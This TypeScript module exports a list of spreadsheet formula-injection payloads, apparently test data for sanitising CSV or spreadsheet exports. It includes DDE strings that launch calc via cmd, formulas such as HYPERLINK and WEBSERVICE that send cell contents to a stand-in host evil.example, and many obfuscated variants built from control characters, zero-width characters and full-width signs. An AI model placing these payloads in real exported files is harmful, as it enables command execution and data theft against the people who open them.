const COMMANDS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=HYPERLINK("http://evil.example/?"&A1,"klikk")',
  "=cmd|'/c calc'!A0",
  "+cmd|'/c calc'!A0",
  "-cmd|'/c calc'!A0",
  "@cmd|'/c calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=IMPORTXML("http://evil.example","//a")',
  '=IMPORTDATA("http://evil.example")',
  '=IMAGE("http://evil.example/x.png")',
  '=EXEC("calc")',
  '=RAND()',
  "-2+3+cmd|' /C calc'!A0",
  '=1+1";=2+2;"',
  '="a"&CHAR(10)&"b"',
  '=A1:A9',
]

const DISGUISES = [
  (text: string) => `\t${text}`,
  (text: string) => `\r${text}`,
  (text: string) => `\n${text}`,
  (text: string) => `\u0000${text}`,
  (text: string) => ` ${text}`,
  (text: string) => `\u00a0${text}`,
  (text: string) => `\ufeff${text}`,
  (text: string) => `\u200b${text}`,
  (text: string) => `\u2060\u00ad${text}`,
  (text: string) => `"${text}`,
  (text: string) => `'" ${text}`,
  (text: string) => `harmløst,${text}`,
  (text: string) => `harmløst;${text}`,
  (text: string) => `harmløst\t${text}`,
  (text: string) => `harmløst\r\n${text}`,
  (text: string) => `harmløst\n\n  ${text}`,
  (text: string) => `harmløst";${text};"`,
  (text: string) => `harmløst\u0000${text}`,
]

const WIDE: Readonly<Record<string, string>> = { '=': '＝', '+': '＋', '-': '－', '@': '＠' }

/** Texts that spreadsheets were or may be made to run, plain, full-width and in disguise. */
export const FORMULA_PAYLOADS: readonly string[] = [
  ...COMMANDS,
  ...COMMANDS.map((text) => (WIDE[text[0]!] ?? '') + text.slice(1)),
  ...DISGUISES.flatMap((disguise) => COMMANDS.slice(0, 5).map(disguise)),
  ...['=', '+', '-', '@', '\t', '\r', '\u0000', '−1+1', '﹣1+1', '﹢1', '﹫A1', '﹦1', '＝', '－2'],
]
